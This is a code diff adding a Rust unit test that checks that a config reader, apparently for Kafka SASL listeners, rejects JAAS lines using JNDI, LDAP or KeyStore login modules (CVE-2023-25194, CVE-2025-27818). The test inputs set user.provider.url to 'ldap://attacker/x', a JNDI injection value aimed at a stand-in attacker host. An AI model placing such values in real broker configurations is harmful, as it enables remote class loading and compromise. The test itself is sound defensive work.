@@ -251,6 +251,26 @@ mod tests {
         }
     }
 
+    /// A line of JAAS is how others were made to load classes and to ask directories (CVE-2023-25194, CVE-2025-27818).
+    #[test]
+    fn only_a_mechanisms_own_module_is_taken() {
+        for mechanism in ["PLAIN", "SCRAM-SHA-256", "SCRAM-SHA-512", "OAUTHBEARER"] {
+            let key = format!("listener.name.clients.{}.sasl.jaas.config", mechanism.to_lowercase());
+            for module in [
+                "com.sun.security.auth.module.JndiLoginModule",
+                "com.sun.security.auth.module.LdapLoginModule",
+                "com.sun.security.auth.module.KeyStoreLoginModule",
+            ] {
+                let line = format!("{module} required user.provider.url=\"ldap://attacker/x\";");
+                let lines =
+                    [LISTENERS, ("sasl.enabled.mechanisms", mechanism), (key.as_str(), line.as_str())];
+                let why = read(&lines, "").unwrap_err();
+                assert!(why.contains(module) && why.contains("needs org.apache"), "{mechanism}: {why}");
+                assert!(!why.contains("attacker"), "{why}");
+            }
+        }
+    }
+
     #[test]
     fn nonces_differ_and_disguises_do_not() {
         let own = ("listener.name.clients.plain.sasl.jaas.config", PLAIN);
